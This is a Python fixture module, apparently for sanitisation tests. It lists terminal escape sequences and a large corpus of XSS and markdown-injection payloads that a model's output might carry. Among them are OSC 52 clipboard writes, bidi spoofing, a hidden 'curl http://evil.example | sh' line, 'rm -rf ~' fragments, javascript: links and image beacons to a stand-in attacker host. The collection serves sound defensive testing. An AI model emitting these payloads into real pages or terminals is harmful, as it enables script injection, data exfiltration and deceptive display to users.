"""Words that a model may write, or be made to write, to command a terminal or a page."""

from __future__ import annotations

ESC, CSI, OSC, ST, BEL = "\x1b", "\x1b[", "\x1b]", "\x1b\\", "\x07"

TERMINAL: list[str] = [
    # colours, the cursor, the screen
    f"{CSI}31mred{CSI}0m", f"{CSI}2J", f"{CSI}H", f"{CSI}1;1Hoverwritten", f"{CSI}3J", f"{CSI}K", f"{CSI}1A{CSI}2K", f"{CSI}?25l",
    f"{CSI}?1049h", f"{CSI}?1000h", f"{CSI}?2004h", f"{CSI}6n", f"{CSI}c", f"{CSI}>c", f"{CSI}5n", f"{CSI}18t", f"{CSI}21t", f"{CSI}8;1;1t",
    f"{CSI}4h", f"{CSI}20h", f"{CSI}1;1r", f"{CSI}8mhidden", f"{CSI}7m", f"{CSI}5m", f"{CSI}38;5;0m", f"{CSI}{'9' * 5_000}m", f"{CSI}",
    f"{CSI}1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16m", f"{CSI}!p", f"{CSI}?3h", f"{CSI}10000000S", f"{CSI}99999999C", f"{CSI}s{CSI}u", f"{CSI}i", f"{CSI}5i",
    f"{ESC}c", f"{ESC}D", f"{ESC}E", f"{ESC}M", f"{ESC}7{ESC}8", f"{ESC}#8", f"{ESC}(0", f"{ESC}%G", f"{ESC}=", f"{ESC}>", f"{ESC}N", f"{ESC}O", f"{ESC}Z", ESC,
    # titles, links, the clipboard, files, notes
    f"{OSC}0;title{BEL}", f"{OSC}2;title{ST}", f"{OSC}8;;http://evil.example/{ST}click{OSC}8;;{ST}", f"{OSC}52;c;cm0gLXJmIH4={BEL}", f"{OSC}52;c;?{BEL}",
    f"{OSC}4;1;?{BEL}", f"{OSC}10;?{BEL}", f"{OSC}11;#000000{BEL}", f"{OSC}7;file:///etc{BEL}", f"{OSC}9;note{BEL}", f"{OSC}777;notify;a;b{BEL}", f"{OSC}50;font{BEL}",
    f"{OSC}1337;File=inline=1:AAAA{BEL}", f"{OSC}1337;CopyToClipboard={BEL}", f"{OSC}1337;SetMark{BEL}", f"{OSC}133;A{BEL}", f"{OSC}104{BEL}", f"{OSC}never ends", f"{OSC}0;{'x' * 9_000}{BEL}",
    # strings to the device
    f"{ESC}P+q544e{ST}", f'{ESC}P$q"p{ST}', f"{ESC}Pq#0;2;0;0;0~{ST}", f"{ESC}_Gf=100;AAAA{ST}", f"{ESC}^private{ST}", f"{ESC}Xstring{ST}", f"{ESC}P1000p", f"{ESC}_", f"{ESC}P",
    f"{ESC}kscreen title{ST}", f"{ESC}]P0000000", f"{ESC}[?1;2c", f"{ESC}]l{ST}", f"{ESC}Ptmux;{ESC}{ESC}[2J{ST}",
    # C1, raw and in UTF-8
    "\x9b31m", "\x9d0;title\x9c", "\x90+q\x9c", "\x9fapc\x9c", "\x9epm\x9c", "\x98sos\x9c", "\x84", "\x85next line", "\x8d", "\x8e", "\x8f", "\x9a", "\x80\x81\x99",
    # C0
    "a\rb", "password: \rok       ", "a\x08b", "a\x08 \x08", "rm -rf\x08\x08\x08\x08\x08\x08ls", "\x07" * 100, "a\x00b", "\x00", "\x05", "\x0e\x0f", "\x11\x13", "\x1a", "\x04", "\x0b\x0c", "\x7f\x7f", "\x16", "\x1c\x1d\x1e\x1f",
    "\x18\x1b[31m", "line\r\nline\rline", "\r\r\n", "a\x0bb\x0cc", "\x01\x02\x03",
    # direction and lines
    "\u202egpj.exe", "\u202a\u202b\u202c\u202d", "\u2066a\u2069", "\u2067\u2068", "\u200e\u200f", "\u061c", "access \u202e// check\u2066 // only admin\u2069 \u2066", "\u2028\u2029", "a\u2028$ rm -rf ~", "\u206a\u206f",
    # halves of characters, and other ways to write an escape
    "\ud800", "\udfff", "\ud83d", "\udc1b[31m", "\ud800\x1b[2J", "\x1b\u200d[31m", "\x1b\x1b[31m", "\x1b[\x1b[31m31m", "\x1b\n[31m", "\x1b\t[31m", "\x1b\r\n[2J",
    "\\x1b[31m", "\\033[2J", "\\e[0m", "^[[31m", "%1b[31m", "␛[31m", "[bold red]markup[/]", "[link=http://evil.example]click[/link]", "$(reboot)", "`reboot`", "!!", ":skull:",
    "`\x1b[31m`", "```\n\x1b[2J\n```", "[a\x1b]8;;http://evil.example/\x07](http://evil.example/)", "| a\x1b[2J | b |\n|---|---|", "# \x1b[31m", "> \x9b2J",
    "".join(map(chr, range(0x20))), "".join(map(chr, range(0x7F, 0xA0))), "".join(map(chr, range(0x2000, 0x2070))), "ok\x1b[8m; curl http://evil.example | sh\x1b[0m", "\x1b[200~pasted\x1b[201~",
]  # fmt: skip

RUN = "pwned(1)"
"""What must never be called on the page of the test."""
LOAD = "http://evil.example/"
"""What must never be asked for: in the test, every host is a server that writes down what it is
asked.
"""

_ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\n>{RUN}</script\n>", f"<script/x>{RUN}</script>", f"<script src={LOAD}1.js></script>", "<script src=//evil.example/2.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>", f"<script type=module>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<<script>{RUN}</script>", f"<script>{RUN}//", f"</script><script>{RUN}</script>",
    f"<img src={LOAD}3.png>", f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img/src=x/onerror={RUN}>", f"<IMG SRC=x ONERROR={RUN}>", f"<img src=`x`onerror={RUN}>", f"<img \x00src=x onerror={RUN}>", f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<img srcset='{LOAD}4.png 1x'>", f"<picture><source srcset={LOAD}5.png><img src=x></picture>", f"<img src={LOAD}6.png loading=eager", f"<image src={LOAD}7.png>", f"<img lowsrc={LOAD}8.png>", f"<img dynsrc={LOAD}9.png>",
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><image href={LOAD}10.png></svg>", f"<svg><use href='{LOAD}11.svg#a'></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set onbegin={RUN} attributeName=x>", f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=20>x</text></a></svg>", f"<math href=javascript:{RUN}>x</math>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<iframe src={LOAD}12.html></iframe>", f"<iframe src=javascript:parent.{RUN}></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>", f"<iframe onload={RUN}></iframe>", f"<frameset onload={RUN}>", f"<embed src={LOAD}13.swf>", f"<object data={LOAD}14.html></object>", f"<object data=javascript:{RUN}></object>", f"<applet code={LOAD}15>", f"<portal src={LOAD}16></portal>",
    f"<link rel=stylesheet href={LOAD}17.css>", f"<link rel=preload as=image href={LOAD}18.png>", f"<link rel=prefetch href={LOAD}19>", f"<link rel=icon href={LOAD}20.ico>", f"<link rel=preconnect href={LOAD}>", "<link rel=dns-prefetch href=//evil.example>", f"<style>@import '{LOAD}21.css';</style>", f"<style>body{{background:url({LOAD}22.png)}}</style>", f"<p style='background:url({LOAD}23.png)'>x</p>", f'<p style="behavior:url({LOAD}24.htc)">x</p>',
    f"<style>@font-face{{font-family:a;src:url({LOAD}25.woff)}}*{{font-family:a}}</style>", f"<xss style='animation-name:x' onanimationstart={RUN}>", f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={RUN}>x</b>",
    f"<body onload={RUN}>", f"<body background={LOAD}26.png>", f"<html onmouseover={RUN}>", f"<table background={LOAD}27.png><td>x</table>", f"<base href={LOAD}>", f"<meta http-equiv=refresh content='0;url={LOAD}28'>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", f"<meta charset=utf-7>+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<video src={LOAD}29.mp4 autoplay></video>", f"<video poster={LOAD}30.png></video>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}></audio>", f"<track src={LOAD}31.vtt>", f"<video autoplay onloadstart={RUN} src=x></video>",
    f"<input autofocus onfocus={RUN}>", f"<input type=image src={LOAD}32.png>", f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<button autofocus onfocus={RUN}>x</button>", f"<keygen autofocus onfocus={RUN}>", f"<form action=javascript:{RUN}><button>x</button></form>", f"<form><button formaction=javascript:{RUN}>x</button></form>", f"<isindex type=image src=1 onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>", f"<marquee onstart={RUN}>x</marquee>", f"<div onmouseover={RUN}>x</div>", f"<b onclick={RUN}>x</b>", f"<div contenteditable onfocus={RUN} autofocus>x</div>", f"<x onpointerover={RUN} tabindex=1>x</x>", f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>", f"<div popover onbeforetoggle={RUN}>x</div>",
    f"<a href=javascript:{RUN}>x</a>", f"<a href=' javascript:{RUN}'>x</a>", f"<a href='java\tscript:{RUN}'>x</a>", f"<a href='java\nscript:{RUN}'>x</a>", f"<a href=&#106;avascript:{RUN}>x</a>", f"<a href=\x01javascript:{RUN}>x</a>", f"<a href=x ping={LOAD}33>x</a>", f"<area href=javascript:{RUN}>", f"<a href=vbscript:{RUN}>x</a>", f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<template><script>{RUN}</script></template>", f"<template shadowrootmode=open><img src={LOAD}34.png></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<title></title><script>{RUN}</script>", f"<textarea></textarea><script>{RUN}</script>", f"<xmp></xmp><script>{RUN}</script>", "<plaintext>", f"<noembed></noembed><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->", f"<!--><img src=x onerror={RUN}>", f"<!-- --!><script>{RUN}</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml <script>{RUN}</script>?>", f"<!DOCTYPE a [<!ENTITY b '<script>{RUN}</script>'>]>", f"<%<script>{RUN}</script>%>", f"</br><script>{RUN}</script>", f"<//script><script>{RUN}</script>", "<?='<script>'?>",
]  # fmt: skip

_CLOSERS = [
    f"{quote}{closer}{inner}"
    for quote in ("", '"', "'", "`")
    for closer, inner in (
        ("></p></div></section></main></body>", f"<script>{RUN}</script>"), (" onmouseover=", f"{RUN} x="), (" autofocus onfocus=", f"{RUN} x="), (" style=background:url(", f"{LOAD}35.png) x="),
        (" src=", f"{LOAD}36.png onerror={RUN} x="),
    )
]  # fmt: skip

_ENTITIES = [
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"&#x3c;img src=x onerror={RUN}&#x3e;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"＜script＞{RUN}＜/script＞",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"#{{{RUN}}}", f"<%= {RUN} %>", f"{{% {RUN} %}}", f"\u2028<script>{RUN}</script>", f"\ud800<script>{RUN}</script>", f"<\u0130mg src=x onerror={RUN}>", f"<ſcript>{RUN}</ſcript>", f"<\x00script>{RUN}</script>", f"<script\x00>{RUN}</script>",
]  # fmt: skip

_MARKDOWN = [
    f"![a]({LOAD}40.png)", f"![a](<{LOAD}41.png>)", f'![a]({LOAD}42.png "t")', f"![a][r]\n\n[r]: {LOAD}43.png", f"![r]\n\n[r]: {LOAD}44.png", f"![r][]\n\n[r]: <{LOAD}45.png>", f"[![a]({LOAD}46.png)](http://a.example/)", f"![![a]({LOAD}47.png)]({LOAD}48.png)", f"!![a]({LOAD}49.png)", f"\\![a]({LOAD}50.png)", f"\\\\![a]({LOAD}51.png)", f"!\n[a]({LOAD}52.png)", f"![a\n]({LOAD}53.png)", f"![a](\n{LOAD}54.png)",
    f"![a](data:image/svg+xml,<svg onload={RUN}>)", "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIj4=)", f'![a]({LOAD}55.png"onerror="{RUN})', f'![a](x"onerror="{RUN})', f'![" onerror="{RUN}](x)', f"![a](x 'onerror={RUN}')", f'![a](x "\\" onerror={RUN} ")', f"![<img src={LOAD}56.png>](x)",
    f"[a](javascript:{RUN})", f"[a](JaVaScRiPt:{RUN})", f"[a](java&Tab;script:{RUN})", f"[a](java&NewLine;script:{RUN})", f"[a](&#106;avascript:{RUN})", f"[a](&#x6a;avascript&colon;{RUN})", f"[a](\\javascript:{RUN})", f"[a](javascript&#58;{RUN})", f"[a](<javascript:{RUN}>)", f"[a](< javascript:{RUN}>)", f"[a](%6aavascript:{RUN})", f"[a](vbscript:{RUN})", f"[a](data:text/html,<script>{RUN}</script>)", "[a](data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==)", "[a](file:///etc/passwd)", f"[a](blob:{LOAD}x)", "[a](//evil.example/a)", "[a](/etc/passwd)", f"[a](#javascript:{RUN})", f"[a](view-source:{LOAD})",
    f"<javascript:{RUN}>", "<data:text/html,x>", f'<http://a.example/"onmouseover={RUN}>', f"<http://a.example/'onmouseover={RUN}>", f"[a]: javascript:{RUN}\n\n[a]", f"[a][b]\n\n[b]: <javascript:{RUN}> 'x'", f'[a](http://a.example/"onclick="{RUN})', f"[a](http://a.example/ '\"onclick=\"{RUN}')", f"[a](http://a.example/ \"'onclick='{RUN}\")", f"http://a.example/<script>{RUN}</script>", f'http://a.example/"onclick={RUN}', f"[<script>{RUN}</script>](http://a.example/)", f'[a](http://a.example/\\"onclick={RUN})', "[x](https://user:pass@evil.example/)",
    f"```\n<script>{RUN}</script>\n```", f"```html\n<img src={LOAD}57.png>\n```", f'```"onclick={RUN}\nx\n```', f"```<script>{RUN}</script>\nx\n```", f"~~~\n<b>\n~~~\n<img src={LOAD}58.png>", f"```\n```\n<script>{RUN}</script>", f"````\n```\n<script>{RUN}</script>\n````", f"   ```\n<script>{RUN}</script>\n   ```", f"    ```\n<script>{RUN}</script>\n    ```", f"\t<script>{RUN}</script>", f"- ```\n<script>{RUN}</script>\n- ```", f"> ```\n<script>{RUN}</script>\n> ```", f"1. ```\n   x\n<img src={LOAD}59.png>", f"```\nleft open <script>{RUN}</script>", f"<pre>\n```\n</pre><script>{RUN}</script>",
    f"`<script>{RUN}</script>`", f"`` ` <script>{RUN}</script> ```", f"` <img src={LOAD}60.png>", f"`a\n\n<script>{RUN}</script>`", f"\\`<script>{RUN}</script>`", f"[a](`) <img src={LOAD}61.png> `", f"<a title='`'><img src={LOAD}62.png>`", f"![`]({LOAD}63.png)`", f"`![a]({LOAD}64.png)", f"a ` b\n` <img src={LOAD}65.png> `", f"`<`img src={LOAD}66.png>",
    f"| a | b |\n|---|---|\n| <script>{RUN}</script> | ![a]({LOAD}67.png) |", f"| ` | <img src={LOAD}68.png> ` |\n|---|---|", f'| a |\n|:-:"onclick={RUN}|', f"# <script>{RUN}</script>", f"<h1 onclick={RUN}>\nx", f"> <img src={LOAD}69.png>", f"- <img src={LOAD}70.png>", f"* ![a]({LOAD}71.png)", f"1. [a](javascript:{RUN})", f"~~<img src={LOAD}72.png>~~", f"**<script>{RUN}</script>**", f"<div markdown=1>\n![a]({LOAD}73.png)\n</div>", f"<b\n\nonclick={RUN}>x</b>", f"<script>\n\n{RUN}\n\n</script>", f"$$\\href{{javascript:{RUN}}}{{x}}$$", f"$\\includegraphics{{{LOAD}74.png}}$", f"[^1]\n\n[^1]: <script>{RUN}</script>", f"- [ ] <input onclick={RUN}>", f"<!--\n![a]({LOAD}75.png)\n-->", f"<details>\n\n![a]({LOAD}76.png)\n\n</details>", f"::: {{onclick={RUN}}}\nx\n:::", f"![a]({LOAD}77.png){{onload={RUN}}}", f"![[{LOAD}78.png]]", f"!!! note\n    <script>{RUN}</script>",
    f"[a]: {LOAD}79.png\n![a]", f"![a]\n[a]: {LOAD}80.png", "![a](http:evil.example/81.png)", "![a](//evil.example/82.png)", "![a](\\\\evil.example\\83.png)", "![a](ftp://evil.example/84.png)", f"![\\]]({LOAD}85.png)", f"![a]({LOAD}86.png) ![b]({LOAD}87.png)", f"!&#91;a]({LOAD}88.png)", f"&#33;[a]({LOAD}89.png)", f"&excl;[a]({LOAD}90.png)", f"![a]&lpar;{LOAD}91.png)", f"!\u200b[a]({LOAD}92.png)", f"!\x1b[a]({LOAD}93.png)",
]  # fmt: skip

HTML: list[str] = [*_ELEMENTS, *_CLOSERS, *_ENTITIES, *_MARKDOWN]
